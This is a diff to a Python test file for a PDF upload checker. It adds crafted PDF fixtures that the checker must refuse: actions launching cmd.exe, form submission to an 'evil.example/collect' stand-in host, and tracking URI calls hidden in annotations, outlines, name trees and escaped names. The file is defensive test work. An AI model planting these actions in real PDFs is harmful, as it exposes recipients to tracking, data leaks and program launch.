@@ -440,7 +440,44 @@ LAUNCHING = {
     "go to remote": fx.one_page_pdf(
         catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0 /Fit] >>"
     ),
-    "submit form": fx.one_page_pdf(catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://x) >> >>"),
+    "import data": fx.one_page_pdf(page=b"/AA << /O << /S /ImportData /F (data.fdf) >> >>"),
+    "launch on a page /AA": fx.one_page_pdf(page=b"/AA << /C << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
+    "remote go-to by URL": fx.one_page_pdf(
+        catalog=b"/OpenAction << /S /GoToR /F << /FS /URL /F (https://evil.example/a.pdf) >> /D [0 /Fit] >>"
+    ),
+    "thread in another file": fx.one_page_pdf(catalog=b"/OpenAction << /S /Thread /F (other.pdf) /D 0 >>"),
+}
+URI = b"<< /S /URI /URI (https://evil.example/track?id=1) >>"
+CALLING_OUT = {
+    "open action to a URI": fx.one_page_pdf(catalog=b"/OpenAction " + URI),
+    "open action to a URI, indirect": fx.one_page_pdf(catalog=b"/OpenAction 6 0 R", extra={6: URI}),
+    "catalog /AA to a URI": fx.one_page_pdf(catalog=b"/AA << /WC " + URI + b" >>"),
+    "page /AA to a URI": fx.one_page_pdf(page=b"/AA << /O " + URI + b" >>"),
+    "web link annotation": fx.one_page_pdf(
+        page=ANNOTS, extra={6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A " + URI + b" >>"}
+    ),
+    "annotation /AA to a URI": fx.one_page_pdf(
+        page=ANNOTS, extra={6: b"<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] /AA << /E " + URI + b" >> >>"}
+    ),
+    "outline to a URI": fx.one_page_pdf(
+        catalog=b"/Outlines 6 0 R",
+        extra={
+            6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
+            7: b"<< /Title (a) /Parent 6 0 R /A " + URI + b" >>",
+        },
+    ),
+    "next chain to a URI": fx.one_page_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + URI + b"] >>"),
+    "submit form from a field only in the AcroForm": fx.one_page_pdf(
+        catalog=b"/AcroForm << /Fields [6 0 R] >>",
+        extra={6: b"<< /FT /Btn /T (send) /Ff 65536 /A << /S /SubmitForm /F (https://evil.example/collect) >> >>"},
+    ),
+    "submit form to a URL file spec": fx.one_page_pdf(
+        catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://x) >> >>"
+    ),
+    "names tree to a URI": fx.one_page_pdf(
+        catalog=b"/Names << /Dests << /Names [(a) 6 0 R] >> >>", extra={6: b"<< /D [3 0 R /Fit] /Next " + URI + b" >>"}
+    ),
+    "escaped name": fx.one_page_pdf(catalog=b"/OpenAction << /S /U#52I /URI (https://evil.example) >>"),
 }
 EMBEDDING = {
     "attachment (pypdf)": attachment(),
@@ -470,6 +507,27 @@ def test_pdf_with_launch_or_external_actions_is_refused(data):
     assert "打开程序或外部文件" in rejected(check_document, data)
 
 
+@pytest.mark.parametrize("data", CALLING_OUT.values(), ids=CALLING_OUT.keys())
+def test_pdf_with_links_or_actions_that_call_out_is_refused(data):
+    for check in (check_document, check_pdf, check_technical_summary):
+        message = rejected(check, data)
+        assert message.startswith("PDF 中含有网址链接或联网动作") and "请删除文档中的超链接" in message
+
+
+def test_a_uri_action_at_the_end_of_a_long_chain_is_found_without_recursion():
+    chain = {6 + i: b"<< /Next %d 0 R >>" % (7 + i) for i in range(3000)}
+    chain[3006] = URI
+    assert "网址链接" in rejected(check_document, fx.one_page_pdf(catalog=b"/Deep 6 0 R", extra=chain))
+    nested = b"[" * 200 + URI + b"]" * 200
+    assert "网址链接" in rejected(check_document, fx.one_page_pdf(catalog=b"/Deep " + nested))
+
+
+def test_the_object_walk_is_bounded():
+    many = b"/Many [" + b"<<>>" * (uploads.PDF_MAX_OBJECTS + 1) + b"]"
+    message, seconds, _ = bounded(check_document, fx.one_page_pdf(catalog=many))
+    assert "结构过于复杂" in message and seconds < 10
+
+
 @pytest.mark.parametrize("data", EMBEDDING.values(), ids=EMBEDDING.keys())
 def test_pdf_with_embedded_file_is_refused(data):
     assert "PDF 中嵌入了附件" in rejected(check_document, data)
@@ -480,14 +538,15 @@ def test_pdf_with_embedded_file_is_refused(data):
     ("catalog", "page", "extra"),
     [
         (b"/OpenAction [3 0 R /Fit]", b"", {}),  # open at page 1: harmless and common
-        (b"", ANNOTS, {6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://x) >> >>"}),
+        (b"", ANNOTS, {6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>"}),
+        (b"/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >> /PageMode /UseOutlines", b"", {}),
         (
             b"/Outlines 6 0 R",
             b"",
             {6: b"<< /Count 1 /First 7 0 R /Last 7 0 R >>", 7: b"<< /Title (a) /Parent 6 0 R /Dest [3 0 R /Fit] >>"},
         ),
     ],
-    ids=["open at page", "web link", "bookmark"],
+    ids=["open at page", "link within the document", "named destination", "bookmark"],
 )
 def test_pdf_with_ordinary_links_and_bookmarks_is_accepted(catalog, page, extra):
     assert check_document(fx.one_page_pdf(catalog=catalog, page=page, extra=extra)).pages == 1
